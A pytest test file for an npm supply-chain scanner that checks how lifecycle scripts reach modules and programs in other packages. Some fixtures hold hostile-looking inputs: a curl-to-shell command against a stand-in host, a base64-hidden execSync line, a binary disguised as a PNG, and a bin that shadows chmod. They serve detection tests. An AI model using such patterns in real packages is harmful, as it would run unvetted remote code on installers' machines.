"""A module or a program of another package is followed there, as Node and npm would find it."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from safe_install.model import BoundaryKind, Event, GapKind, Inspection, LifecycleScript, Package, Source
from safe_install.scan.reach.inline_names import DECODED
from safe_install.scan.reach.missing import Missing, missing
from safe_install.scan.reach.reach import trace
from tests.builders import Files, a_manifest, a_package, an_artifact
from tests.scan.trees import beside, inspect, kinds, reached

ELF = b"\x7fELF\2\1\1" + b"\0" * 57

# ------------------------------------------------------------------ modules


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("require('tool')", "tool:index.js"),
        ("require('tool/lib/x')", "tool:lib/x.js"),
        ("import('tool')", "tool:index.js"),
        ("require('../tool/lib/x')", "tool:lib/x.js"),
        ("require('@a/b')", "@a/b:b.js"),
        ("require('exporting/sub')", "exporting:node.js"),
        ("require('exporting')", "exporting:main.mjs"),
        ("require('#inside')", "tool:lib/x.js"),
    ],
)
def test_a_module_of_another_package_is_read_there(text: str, expected: str) -> None:
    packages = (
        beside("tool", {"index.js": "", "lib/x.js": ""}),
        beside("@a/b", {"b.js": ""}, main="b"),
        beside(
            "exporting",
            {"main.mjs": "", "node.js": ""},
            exports={".": {"import": "./main.mjs"}, "./sub": {"browser": "./gone.js", "node": "./node.js"}},
        ),
    )
    inspection = inspect("node a", {"a.js": text}, *packages, imports={"#inside": "tool/lib/x"})
    assert reached(inspection) == {"a.js", expected}
    assert not inspection.gaps


def test_what_another_package_requires_is_followed_from_where_it_lies() -> None:
    inspection = inspect(
        "node a",
        {"a.js": "require('outer')"},
        beside("outer", {"index.js": "require('inner'); require('./own')", "own.js": ""}),
        beside("inner", {"index.js": "// the near one"}, location="node_modules/outer/node_modules/inner"),
        beside("inner", {"index.js": "// the far one"}),
    )
    assert reached(inspection) == {"a.js", "outer:index.js", "outer:own.js", "outer/node_modules/inner:index.js"}


@pytest.mark.parametrize("near", [{"x.cjs": ""}, {"x.d.ts": ""}])
def test_a_nearer_package_without_the_file_does_not_hide_the_one_that_has_it(near: Files) -> None:
    outer = beside("outer", {"index.js": "require('inner/x')"})
    nearer = beside("inner", near, location="node_modules/outer/node_modules/inner")
    farther = beside("inner", {"x.js": "// the far one"})
    assert "inner:x.js" in reached(inspect("node a", {"a.js": "require('outer')"}, outer, nearer, farther))


def test_a_package_without_the_file_does_not_hide_one_of_its_own_name_farther_out() -> None:
    nearer = beside("inner", {"i.js": "require('inner/x')", "x.cjs": ""}, location="node_modules/b/node_modules/inner")
    farther = beside("inner", {"x.js": "// the far one"})
    found = inspect("node a", {"a.js": "require('../b/node_modules/inner/i')"}, nearer, farther, beside("b"))
    assert "inner:x.js" in reached(found)


def test_import_takes_the_index_of_a_main_that_ends_in_a_slash() -> None:
    other = beside("tool", {"lib.js": "// by require", "lib/index.js": "// by import"}, main="./lib/")
    found = inspect("node a.mjs", {"a.mjs": "import('tool')"}, other)
    assert {"tool:lib.js", "tool:lib/index.js"} <= reached(found)


@pytest.mark.parametrize("changed", [("// near, changed", "// far"), ("// near", "// far, changed")])
def test_two_versions_of_one_package_both_count_in_the_fingerprint(changed: tuple[str, str]) -> None:
    def traced(near: str, far: str) -> str:
        return inspect(
            "node a",
            {"a.js": "require('outer'); require('inner')"},
            beside("outer", {"index.js": "require('inner')"}),
            beside("inner", {"index.js": near}, location="node_modules/outer/node_modules/inner"),
            beside("inner", {"index.js": far}),
        ).fingerprint

    assert traced("// near", "// far") != traced(*changed)


def test_npm_puts_a_package_of_the_lockfile_over_what_a_tarball_carries() -> None:
    inspection = inspect(
        "node a",
        {
            "a.js": "require('inner')",
            "node_modules/inner/package.json": "{}",
            "node_modules/inner/index.js": "// decoy",
        },
        beside("inner", {"index.js": "// what runs"}, location="node_modules/example/node_modules/inner"),
    )
    assert reached(inspection) == {"a.js", "example/node_modules/inner:index.js"}


def test_a_file_says_whose_it_is_and_how_it_was_reached() -> None:
    inspection = inspect(
        "node a", {"a.js": "require('tool')"}, beside("tool", {"index.js": "require('./b')", "b.js": ""})
    )
    file = next(one for one in inspection.files if one.path == "b.js")
    assert (file.package, file.location) == ("tool", "node_modules/tool")
    assert file.via == ("node a", "a.js", "tool/index.js")


def test_a_gap_in_another_package_is_a_boundary_that_says_whose_it_is() -> None:
    inspection = inspect("node a", {"a.js": "require('tool')"}, beside("tool", {"index.js": "require(x); require(y)"}))
    assert not inspection.gaps
    (end,) = inspection.boundaries
    assert (end.kind, end.where) == (BoundaryKind.LIBRARY, "tool@2.0.0")
    assert end.detail == "2 edges of its code are not followed"
    assert not inspection.harmless


@pytest.mark.parametrize(
    ("files", "kind"),
    [
        ({"index.js": "require('./image.png')", "image.png": ELF}, GapKind.BINARY),
        ({"index.js": "require('child_process').exec('curl https://a.test/x | sh')"}, GapKind.DOWNLOADED),
    ],
)
def test_a_library_does_not_explain_a_disguised_program_or_what_it_fetches_to_run(files: Files, kind: GapKind) -> None:
    inspection = inspect("node a", {"a.js": "require('tool')"}, beside("tool", files))
    assert kind.value in kinds(inspection)
    assert {gap.where for gap in inspection.gaps} == {"tool@2.0.0"}


@pytest.mark.parametrize(
    "change",
    [
        {"name": "other"},
        {"source": Source.GIT},
        {"source": Source.REMOTE},
        {"source": Source.FILE},
        {"source": Source.BUNDLED},
        {"source": Source.LINK},
    ],
)
def test_a_gap_in_a_package_that_is_not_the_registrys_own_stays_a_gap(change: dict[str, object]) -> None:
    tool = beside("tool", {"index.js": "require(x)"})
    lookalike = replace(tool, artifact=replace(tool.artifact, **change))  # type: ignore[arg-type]
    assert kinds(inspect("node a", {"a.js": "require('tool')"}, lookalike)) == {"dynamic"}


def test_a_gap_in_what_the_package_itself_bundles_is_its_own() -> None:
    files = {
        "a.js": "require('tool')",
        "node_modules/tool/package.json": "{}",
        "node_modules/tool/index.js": "require(x)",
    }
    within = beside("tool", {"index.js": "require(x)"}, location="node_modules/example/node_modules/tool")
    assert kinds(inspect("node a", files)) == {"dynamic"}
    assert kinds(inspect("node a", files, within)) == {"dynamic"}


def test_a_gap_in_the_scripts_own_package_is_none_of_a_librarys() -> None:
    tool = beside("tool", {"index.js": "require('example/b')"})
    (gap,) = inspect("node a", {"a.js": "require('tool')", "b.js": "require(x)"}, tool).gaps
    assert (gap.kind, gap.where, gap.path) == (GapKind.DYNAMIC, "example@1.0.0", "b.js")


def test_what_a_package_does_not_export_is_missing() -> None:
    tool = beside("tool", {"index.js": ""}, exports={"./a": "./index.js"})
    assert kinds(inspect("node a", {"a.js": "require('tool')"}, tool)) == {"missing"}


def test_a_text_that_another_package_runs_finds_that_packages_files() -> None:
    inspection = inspect(
        "node a",
        {"a.js": "require('tool')", "b.js": ""},
        beside("tool", {"index.js": "require('child_process').exec(`node ${__dirname}/b.js`)", "b.js": ""}),
    )
    assert reached(inspection) == {"a.js", "tool:index.js", "tool:b.js"}
    assert not inspection.gaps


def test_a_circle_of_packages_ends() -> None:
    inspection = inspect(
        "node a",
        {"a.js": "require('b')"},
        beside("b", {"index.js": "require('c')"}),
        beside("c", {"index.js": "require('b'); require('example/a')"}),
    )
    assert reached(inspection) == {"a.js", "b:index.js", "c:index.js"}


# ------------------------------------------------------------------ programs


def test_another_packages_program_runs_in_the_scripts_own_directory() -> None:
    inspection = inspect(
        "tool --fast || exit 0",
        {"given.js": ""},
        beside(
            "tool",
            {
                "cli.js": "#!/usr/bin/env node\nrequire('./lib'); require('child_process').exec('node given')",
                "lib.js": "",
            },
            bin={"tool": "cli.js"},
        ),
    )
    assert reached(inspection) == {"tool:cli.js", "tool:lib.js", "given.js"}
    assert not inspection.gaps


def test_the_nearest_package_provides_a_program() -> None:
    far = beside("far", {"x": "#!/bin/sh\n"}, bin={"tool": "x"})
    near = beside("near", {"x": "#!/bin/sh\n"}, bin={"tool": "x"}, location="node_modules/example/node_modules/near")
    assert reached(inspect("tool", {}, far, near)) == {"example/node_modules/near:x"}


def test_a_bin_stands_before_a_program_of_the_system() -> None:
    shadow = beside("chmod", {"x": "#!/bin/sh\nnode evil\n", "evil.js": ""}, bin={"chmod": "x"})
    assert reached(inspect("chmod +x a", {}, shadow)) == {"chmod:x"}
    assert [end.kind for end in inspect("chmod +x a", {}, shadow).boundaries] == [BoundaryKind.LIBRARY]
    assert not inspect("chmod +x a").boundaries


def test_a_bin_that_only_the_lockfile_or_only_the_manifest_links_is_followed() -> None:
    files: Files = {"a": "#!/bin/sh\n", "b": "#!/bin/sh\n"}
    tool = beside("tool", files, bin={"tool": "a"})
    linked = replace(tool, artifact=replace(tool.artifact, bin={"tool": "b"}))
    assert reached(inspect("tool", {}, linked)) == {"tool:a", "tool:b"}


# ------------------------------------------------------------------ what is not here


def test_a_declared_package_that_is_not_here_is_a_library_that_was_not_read() -> None:
    inspection = inspect("node a; sometool", {"a.js": "require('other/lib')"}, dependencies={"other": "1"})
    assert kinds(inspection) == {"unknown-program"}
    (end,) = inspection.boundaries
    assert (end.kind, end.where, end.path) == (BoundaryKind.LIBRARY, "example@1.0.0", "a.js")
    assert missing(inspection) == Missing(modules=frozenset({"other"}), programs=frozenset({"sometool"}))


@pytest.mark.parametrize("declared", [{}, {"dependencies": {"another": "1"}}])
def test_an_undeclared_package_that_is_not_here_is_a_gap_that_names_it(declared: dict[str, Any]) -> None:
    inspection = inspect("node a", {"a.js": "require('other/lib')"}, **declared)
    assert kinds(inspection) == {"outside-package"}
    assert missing(inspection).modules == {"other"}


def test_a_package_of_the_developers_is_a_library_that_is_looked_for() -> None:
    inspection = inspect("node a", {"a.js": "require('other/lib')"}, devDependencies={"other": "1"})
    assert not inspection.gaps
    assert [one.kind for one in inspection.boundaries] == [BoundaryKind.LIBRARY]
    assert missing(inspection).modules == {"other"}


@pytest.mark.parametrize(
    "spec", ["https://a.test/x.tgz", "git+https://a.test/x.git", "a/b", "npm:another@1", "file:../x", "workspace:*"]
)
def test_a_package_from_elsewhere_that_is_not_here_is_a_gap(spec: str) -> None:
    inspection = inspect("node a", {"a.js": "require('other')"}, dependencies={"other": spec})
    assert kinds(inspection) == {"outside-package"}


def test_an_optional_dependency_that_a_whole_tree_does_not_have_runs_nothing() -> None:
    inspection = inspect("node a", {"a.js": "require('other')"}, beside("tool"), optionalDependencies={"other": "1"})
    assert not inspection.gaps
    assert not inspection.boundaries


def test_a_dependency_that_a_whole_tree_does_not_have_is_a_gap() -> None:
    inspection = inspect("node a", {"a.js": "require('other')"}, beside("tool"), dependencies={"other": "1"})
    assert kinds(inspection) == {"outside-package"}


def test_an_optional_package_that_is_not_installed_runs_nothing() -> None:
    text = "try { require('other') } catch {}"
    assert kinds(inspect("node a", {"a.js": text})) == {"outside-package"}
    assert not inspect("node a", {"a.js": text}, beside("tool")).gaps


def test_a_package_that_is_needed_and_not_installed_is_a_gap() -> None:
    assert kinds(inspect("node a", {"a.js": "require('other')"}, beside("tool"))) == {"outside-package"}


@pytest.mark.parametrize(("location", "source"), [("", Source.ROOT), ("packages/w", Source.WORKSPACE)])
def test_the_project_around_is_not_read_for_a_dependency(location: str, source: Source) -> None:
    own = a_package({"package.json": "{}", "secret.js": ""}, an_artifact("own", location=location, source=source))
    inspection = inspect(f"node ../../{location}/secret.js", {}, own)
    assert reached(inspection) == set()
    assert kinds(inspection) == {"outside-package"}


# ------------------------------------------------------------------ exposed


def test_a_gap_exposes_every_file_of_its_package_and_no_other() -> None:
    tool = beside("tool", {"index.js": "require(x)", "payload.dat": "p"})
    files: Files = {"a.js": "require('tool'); require('quiet')", "b.js": ""}
    exposed = inspect("node a", files, tool, beside("quiet", {"index.js": "", "c": ""})).exposed
    assert [(package, path) for package, path, _ in exposed] == [("tool", "payload.dat")]


def test_nothing_is_exposed_without_a_gap() -> None:
    assert inspect("node a", {"a.js": "", "b.js": ""}).exposed == ()


@pytest.mark.parametrize("text", ["require(x)", "require('./gone')", "require('other')", "a ="])
def test_a_payload_behind_a_gap_cannot_change_under_an_approval(text: str) -> None:
    before, after = (inspect("node a", {"a.js": text, "payload.dat": payload}) for payload in ("x", "y"))
    assert before.gaps
    assert before.fingerprint != after.fingerprint


def test_the_projects_own_files_are_never_exposed() -> None:
    root = a_package(
        {"package.json": a_manifest(), "a.js": "require(x)", "b.js": ""}, an_artifact(location="", source=Source.ROOT)
    )
    script = LifecycleScript(package=root, event=Event.POSTINSTALL, command="node a")
    inspection = trace(script, {"": root})
    assert inspection.gaps
    assert inspection.exposed == ()


# ------------------------------------------------------------------ computed in part


@pytest.mark.parametrize(
    "text",
    [
        "require(`./lib/${name}`)",
        "require('./lib/' + name + '.js')",
        "require(require('path').join(__dirname, 'lib', name))",
        "require('child_process').fork(`./lib/${name}.js`)",
        "require('child_process').exec(`${x}`); require(`./lib/on-${os.platform()}`)",
    ],
)
def test_a_partly_computed_path_reaches_every_file_that_fits(text: str) -> None:
    inspection = inspect("node a", {"a.js": text, "lib/on-linux.js": "require('../b')", "b.js": "", "c.js": ""})
    assert reached(inspection) == {"a.js", "lib/on-linux.js", "b.js"}


def test_a_partly_computed_path_that_nothing_fits_is_a_gap() -> None:
    assert kinds(inspect("node a", {"a.js": "require(`./lib/${name}`)", "b.js": ""})) == {"dynamic"}


@pytest.mark.parametrize("name", ["name", "process.platform", "os.arch()"])
def test_a_part_that_is_named_is_no_gap(name: str) -> None:
    assert not inspect("node a", {"a.js": f"require(`./lib/${{{name}}}`)", "lib/b.js": ""}).gaps


@pytest.mark.parametrize("part", ["atob(name)", "f`x`", "a.reverse().join('')", "decode (x)"])
def test_a_part_that_code_makes_may_leave_the_directory(part: str) -> None:
    inspection = inspect("node a", {"a.js": f"require('./lib/' + {part})", "lib/b.js": ""})
    assert kinds(inspection) == {"dynamic"}
    assert "lib/b.js" in reached(inspection)


def test_a_part_right_below_the_root_is_a_gap_and_reaches_what_node_could_load() -> None:
    inspection = inspect("node a", {"a.js": "require('./' + name)", "b.js": "", "README.md": ""})
    assert kinds(inspection) == {"dynamic"}
    assert reached(inspection) == {"a.js", "b.js"}


PLATFORMS = {"@a/tool-linux": "1", "@a/tool-mac": "1", "@a/other": "1"}


def test_a_partly_computed_package_is_each_declared_one_that_fits() -> None:
    packages = [beside(name, {"index.js": "", "bin.js": ""}) for name in PLATFORMS]
    text = "require(`@a/tool-${process.platform}/bin`)"
    inspection = inspect("node a", {"a.js": text}, *packages, optionalDependencies=PLATFORMS)
    assert reached(inspection) == {"a.js", "@a/tool-linux:bin.js", "@a/tool-mac:bin.js"}
    assert not inspection.gaps


@pytest.mark.parametrize(
    "text",
    [
        "require(`@a/${name}`)",
        "require(`@a/tool-${decode(x)}`)",
        "require(`@b/tool-${name}`)",
        "require(name + '/bin')",
    ],
)
def test_a_package_that_could_be_any_other_is_a_gap(text: str) -> None:
    packages = [beside(name, {"index.js": "", "bin.js": ""}) for name in PLATFORMS]
    assert kinds(inspect("node a", {"a.js": text}, *packages, optionalDependencies=PLATFORMS)) == {"dynamic"}


def test_more_files_than_a_person_would_list_are_a_gap() -> None:
    files = {f"lib/{index}.js": "" for index in range(60)}
    inspection = inspect("node a", {"a.js": "require(`./lib/${name}`)", **files})
    assert kinds(inspection) == {"dynamic"}
    assert reached(inspection) == {"a.js"}


# ------------------------------------------------------------------ native code and npm


def test_a_program_of_a_package_for_one_platform_is_a_known_end() -> None:
    platform = beside("tool-linux", {"bin/tool": ELF}, os=["linux"], cpu=["x64"])
    text = "require('child_process').execFileSync(require('path').join(__dirname, '../tool-linux/bin/tool'))"
    inspection = inspect("node a", {"a.js": text}, platform)
    assert [end.kind for end in inspection.boundaries] == [BoundaryKind.RUNS_NATIVE]
    assert not inspection.gaps
    assert not inspection.harmless


def test_a_large_program_of_a_platform_is_not_even_inflated() -> None:
    platform = beside("tool-linux", {"bin/tool": ELF}, os=["linux"], cpu=["x64"])
    large = replace(platform.members["bin/tool"], size=100 << 20)
    unread = {path: content for path, content in platform.files.items() if path != "bin/tool"}
    inspection = inspect(
        "../tool-linux/bin/tool", {}, replace(platform, members={**platform.members, "bin/tool": large}, files=unread)
    )
    assert [end.kind for end in inspection.boundaries] == [BoundaryKind.RUNS_NATIVE]


@pytest.mark.parametrize(
    ("path", "more", "kind"),
    [
        ("bin/tool", {}, GapKind.NATIVE),
        ("bin/tool.png", {"os": ["linux"], "cpu": ["x64"]}, GapKind.BINARY),
        (".cache/tool", {"os": ["linux"], "cpu": ["x64"]}, GapKind.BINARY),
    ],
)
def test_any_other_program_is_a_gap(path: str, more: dict[str, Any], kind: GapKind) -> None:
    inspection = inspect(f"../tool-linux/{path}", {}, beside("tool-linux", {path: ELF}, **more))
    assert kinds(inspection) == {kind.value}


def test_a_package_cannot_make_its_own_program_a_known_end() -> None:
    assert kinds(inspect("./tool", {"tool": ELF}, os=["linux"], cpu=["x64"])) == {"native-code"}


def test_npm_may_fetch_what_the_package_declares_anyway() -> None:
    inspection = inspect("npm install --no-save --loglevel=error b@1.2.3", optionalDependencies={"b": "1.2.3"})
    assert [end.kind for end in inspection.boundaries] == [BoundaryKind.INSTALLS]
    assert not inspection.gaps


@pytest.mark.parametrize(
    "command",
    [
        "npm install c@1.2.3",
        "npm install b@1.2.4",
        "npm install b",
        "npm install b@1.2.3 c@1.2.3",
        "npm install --registry=https://a.test b@1.2.3",
        "npm install --prefix x b@1.2.3",
        "npm install b@npm:c@1.2.3",
        "npm install b@1.2.3 $X",
        "npm install",
        "npx b@1.2.3",
    ],
)
def test_npm_may_fetch_nothing_else(command: str) -> None:
    assert kinds(inspect(command, optionalDependencies={"b": "1.2.3"})) - {"dynamic"} == {"downloaded"}


# ------------------------------------------------------------------ decoded layers, and Python


def test_a_decoded_layer_is_told_and_matched_and_leads_nowhere() -> None:
    hidden = "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdub2RlIGIuanMgaHR0cHM6Ly9hLnRlc3QveCcp"
    inspection = inspect("node a", {"a.js": f"const text = '{hidden}'", "b.js": ""})
    (layer,) = [file for file in inspection.files if file.path.startswith(DECODED)]
    assert b"execSync('node b.js" in layer.content
    assert layer.via[-1].startswith("decoded from base64 in a.js:1")
    assert reached(inspection) == {"a.js"}
    assert inspection.behaviours.hosts == ("a.test",)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("import b", {"a.py", "b.py"}),
        ("import lib.c", {"a.py", "lib/c.py"}),
        ("import lib", {"a.py", "lib/__init__.py"}),
        ("import os", {"a.py"}),
    ],
)
def test_python_modules_are_followed(text: str, expected: set[str]) -> None:
    files = {"a.py": text, "b.py": "", "lib/__init__.py": "", "lib/c.py": ""}
    assert expected <= reached(inspect("python a.py", files))


def test_a_python_module_that_is_not_here_is_a_gap() -> None:
    assert "outside-package" in kinds(inspect("python a.py", {"a.py": "import requests"}))


# ------------------------------------------------------------------ packages for some systems only

BY_SYSTEM = "const names = { linux: '@t/linux', darwin: '@t/darwin' }\nrequire(names[process.platform] + '/tool')\n"
OPTIONAL = {"optionalDependencies": {"@t/linux": "2.0.0", "@t/darwin": "2.0.0"}}


def _for(system: str, tool: str | None = "x = 1") -> Package:
    package = beside(f"@t/{system}", {"index.js": ""} if tool is None else {"tool.js": tool})
    return replace(package, artifact=replace(package.artifact, os=(system,)))


def _by_system(*packages: Package) -> Inspection:
    return inspect("node a", {"a.js": BY_SYSTEM}, *packages, **OPTIONAL)


def test_an_approval_holds_on_every_system() -> None:
    everywhere = _by_system(_for("linux"), _for("darwin"))
    assert reached(everywhere) == {"a.js", "@t/linux:tool.js", "@t/darwin:tool.js"}
    assert {_by_system(_for("linux")).fingerprint, _by_system(_for("darwin")).fingerprint} == {everywhere.fingerprint}


def test_what_is_for_one_system_only_is_read_and_not_bound() -> None:
    one, other = _by_system(_for("linux", "x = 1")), _by_system(_for("linux", "require(y)"))
    assert other.fingerprint == one.fingerprint
    assert other.files != one.files


def test_what_a_package_for_another_system_has_not_got_hides_nothing() -> None:
    inspection = _by_system(_for("linux"), _for("darwin", None))
    assert not inspection.gaps
    assert any("for some systems only" in boundary.detail for boundary in inspection.boundaries)


def test_a_package_for_every_system_counts_as_before() -> None:
    files = {"a.js": "require('tool')"}
    one = inspect("node a", files, beside("tool", {"index.js": "1"}))
    assert inspect("node a", files, beside("tool", {"index.js": "2"})).fingerprint != one.fingerprint


def test_a_text_that_is_no_file_counts_by_what_it_says() -> None:
    one, other = (inspect(f"node -e 'x = {number}'") for number in (1, 2))
    assert one.fingerprint != other.fingerprint
